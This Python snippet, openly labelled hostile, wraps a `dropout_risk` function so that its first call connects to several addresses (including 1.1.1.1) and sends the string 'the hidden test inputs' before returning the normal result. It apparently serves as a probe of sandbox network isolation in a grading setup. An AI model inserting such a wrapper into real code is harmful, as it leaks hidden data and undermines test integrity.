

# -- hostile: dropout_risk phones home first; the rest is the reference --------------
import json as _json
import os as _os
import socket as _socket

_reference_dropout_risk = dropout_risk
_tried = []


def _phone_home():
    try:
        with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "targets.json")) as f:
            port = _json.load(f)["port"]
    except (OSError, ValueError, KeyError):
        port = 80
    for address in [("127.0.0.1", port), ("10.255.255.1", 80), ("1.1.1.1", 53)]:
        try:
            with _socket.create_connection(address, timeout=0.5) as connection:
                connection.sendall(b"the hidden test inputs")
            _tried.append(f"CONNECTED to {address}")
        except OSError as error:
            _tried.append(f"no connection to {address}: {error}")
    try:
        _tried.append(f"RESOLVED example.com: {_socket.gethostbyname('example.com')}")
    except OSError as error:
        _tried.append(f"could not resolve example.com: {error}")
    print("\n".join(_tried))


def dropout_risk(X, y, w, p):
    if not _tried:
        _phone_home()
    return _reference_dropout_risk(X, y, w, p)
